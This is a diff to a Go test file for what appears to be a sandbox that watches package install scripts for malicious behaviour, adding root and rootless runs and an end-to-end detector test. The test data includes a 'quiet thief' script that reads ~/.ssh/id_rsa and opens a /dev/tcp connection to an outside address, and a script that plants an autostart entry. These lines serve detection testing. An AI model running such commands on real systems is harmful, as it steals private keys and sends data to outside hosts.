@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"context"
 	"os"
+	"os/exec"
+	"os/user"
 	"path/filepath"
 	"strings"
 	"sync"
@@ -20,9 +22,12 @@ import (
 // returns what the decoy watch saw and the script's output.
 func boxed(t *testing.T, script string, mon func(*Decoys) *container.Monitor) ([]DecoyTouch, string, *Decoys) {
 	t.Helper()
-	testutil.NeedRootContainers(t)
+	needContainers(t)
 	proj := testutil.NewProject(t, map[string]string{"package.json": "{}\n"})
 	home := "/home/tester"
+	if os.Geteuid() != 0 {
+		home = os.Getenv("HOME")
+	}
 	s, err := sandbox.Open(context.Background(), sandbox.Options{Project: proj, Home: home, Mode: rootfs.ModeAuto})
 	if err != nil {
 		t.Fatal(err)
@@ -58,12 +63,17 @@ func boxed(t *testing.T, script string, mon func(*Decoys) *container.Monitor) ([
 		Files:  ro, Writable: rw,
 		Stdout: &out, Stderr: &out,
 	}
-	_ = e
-	res, err := runMonitored(ctx, s, e, d, mon)
+	if mon != nil {
+		e.Monitor = mon(d)
+	}
+	res, err := s.Run(ctx, e)
 	if err != nil {
 		t.Fatalf("Run: %v", err)
 	}
 	w.Close()
+	if mon != nil && !res.Monitored {
+		t.Fatalf("the run was not monitored: %s", res.MonitorNote)
+	}
 	if res.ExitCode != 0 {
 		t.Fatalf("script exited %d: %s", res.ExitCode, out.String())
 	}
@@ -72,11 +82,9 @@ func boxed(t *testing.T, script string, mon func(*Decoys) *container.Monitor) ([
 	return append([]DecoyTouch(nil), touches...), out.String(), d
 }
 
-func runMonitored(ctx context.Context, s *sandbox.Session, e sandbox.Exec, d *Decoys, mon func(*Decoys) *container.Monitor) (*container.Result, error) {
-	return s.Run(ctx, e)
-}
+func TestDecoysSeenThroughTheBinds(t *testing.T) { forEachMode(t, decoysSeenThroughTheBinds) }
 
-func TestDecoysSeenThroughTheBinds(t *testing.T) {
+func decoysSeenThroughTheBinds(t *testing.T) {
 	touches, out, d := boxed(t, `set -e
 ls -la ~ ~/.ssh >/dev/null
 head -c 40 ~/.ssh/id_rsa; echo
@@ -104,9 +112,131 @@ printf '[Desktop Entry]\nExec=/tmp/x\n' > ~/.config/autostart/update.desktop
 	_ = d
 }
 
-func TestDecoysQuietWhenUntouched(t *testing.T) {
+func TestDecoysQuietWhenUntouched(t *testing.T) { forEachMode(t, decoysQuietWhenUntouched) }
+
+func decoysQuietWhenUntouched(t *testing.T) {
 	touches, out, _ := boxed(t, `ls -la ~ ~/.ssh ~/.config >/dev/null; stat ~/.ssh/id_rsa >/dev/null; echo ok`, nil)
 	if len(touches) != 0 {
 		t.Errorf("a script that only lists and stats the home: touches %+v (output %s)", touches, out)
+	}
+}
+
+// TestRecorderEndToEnd runs a quiet malicious install script — it reads the SSH
+// key and tries the network, swallowing every error — in a real monitored
+// container: both are seen and filed under the package its environment names. Its
+// twin, a script that builds (sh, cc-like tools, node-gyp-ish work in the project),
+// is observed with nothing high.
+func TestRecorderEndToEnd(t *testing.T) { forEachMode(t, recorderEndToEnd) }
+
+func recorderEndToEnd(t *testing.T) {
+	for _, tt := range []struct {
+		name, script string
+		want         []string
+	}{
+		{"quiet thief", `cat ~/.ssh/id_rsa >/dev/null 2>&1; bash -c 'exec 3<>/dev/tcp/203.0.113.9/443' 2>/dev/null || true; echo done`,
+			[]string{"evil@6.6.6 PB-BEHAVIOUR-SECRET-READ high", "evil@6.6.6 PB-BEHAVIOUR-NETWORK high", "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high"}},
+		{"builder", `mkdir -p build && echo 'int x;' > build/x.c && sh -c 'cat build/x.c | wc -c' && ls ~ >/dev/null && uname -a >/dev/null; echo done`, nil},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var r *Recorder
+			_, out, _ := boxed(t, tt.script, func(d *Decoys) *container.Monitor {
+				var err error
+				// The watch boxed started sees the same touches; this one records.
+				r, err = NewRecorder("npm", d)
+				if err != nil {
+					t.Fatal(err)
+				}
+				return r.Monitor()
+			})
+			r.Close()
+			obs := r.Findings()
+			t.Logf("output: %s\nobservations:\n%s", out, summary(obs))
+			for _, o := range obs {
+				t.Logf("  %s %s: %s %q", o.Owner(), o.Rule, o.Summary, o.Evidence)
+			}
+			got := summary(obs)
+			for _, w := range tt.want {
+				if !strings.Contains(got, w+"\n") {
+					t.Errorf("missing %q", w)
+				}
+			}
+			if tt.want == nil {
+				for _, o := range obs {
+					if o.Severity == High {
+						t.Errorf("a legitimate script got a high observation: %+v", o)
+					}
+				}
+			}
+		})
+	}
+}
+
+// forEachMode runs f as the subtests "root" and "rootless" (the latter as
+// rootlessUser when this process is root).
+func forEachMode(t *testing.T, f func(t *testing.T)) {
+	t.Run("root", func(t *testing.T) {
+		if os.Geteuid() != 0 {
+			t.Skip("not root")
+		}
+		f(t)
+	})
+	t.Run("rootless", func(t *testing.T) {
+		if os.Geteuid() != 0 {
+			f(t)
+			return
+		}
+		parent, _, _ := strings.Cut(t.Name(), "/")
+		asUser(t, "^"+parent+"$/^rootless$")
+	})
+}
+
+// needContainers skips a test that starts containers: with -short, and when not
+// root unless asUser started this process for a rootless run.
+func needContainers(t *testing.T) {
+	t.Helper()
+	if os.Geteuid() != 0 && os.Getenv(rootlessEnv) != "1" {
+		testutil.NeedRootContainers(t)
+	}
+	if testing.Short() {
+		t.Skip("starts containers; skipped with -short")
+	}
+}
+
+const rootlessEnv = "PB_BEHAVIOUR_ROOTLESS"
+
+// rootlessUser is the integration suite's plain rootless user (no subordinate ids).
+const rootlessUser = "pbox-it"
+
+// asUser runs the tests run selects again, as rootlessUser, and fails t if they
+// fail there: the rootless half of a root/rootless pair.
+func asUser(t *testing.T, run string) {
+	needContainers(t)
+	u, err := user.Lookup(rootlessUser)
+	if err != nil {
+		t.Skipf("no user %s to run the rootless case as (the integration suite creates it): %v", rootlessUser, err)
+	}
+	dir := t.TempDir()
+	if err := os.Chmod(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(filepath.Dir(dir), 0o711); err != nil {
+		t.Fatal(err)
+	}
+	bin := filepath.Join(dir, "behaviour.test")
+	data, err := os.ReadFile(os.Args[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(bin, data, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("setpriv", "--reuid="+u.Uid, "--regid="+u.Gid, "--init-groups", "--",
+		bin, "-test.run", run, "-test.v", "-test.count=1")
+	cmd.Dir = "/"
+	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + u.HomeDir, "USER=" + u.Username, "LANG=C.UTF-8", rootlessEnv + "=1"}
+	out, err := cmd.CombinedOutput()
+	t.Logf("as %s:\n%s", u.Username, out)
+	if err != nil || !strings.Contains(string(out), "--- PASS") || strings.Contains(string(out), "--- SKIP") {
+		t.Fatalf("the rootless run failed or skipped: %v", err)
 	}
 }
